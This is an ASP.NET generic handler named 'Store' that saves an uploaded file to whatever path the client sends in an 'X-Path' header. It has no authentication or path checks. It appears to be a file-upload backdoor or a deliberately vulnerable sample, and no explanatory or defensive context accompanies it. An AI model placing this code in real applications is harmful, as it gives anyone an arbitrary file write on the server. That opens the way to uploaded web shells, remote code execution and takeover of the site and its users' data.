<%@ WebHandler Language="C#" Class="Store" %>
using System.Web;

public class Store : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string target = context.Request.Headers["X-Path"];
        string where = target;
        HttpPostedFile up = context.Request.Files[0];
        up.SaveAs(where);
        context.Response.Write("{\"ok\":true}");
    }

    public bool IsReusable { get { return false; } }
}
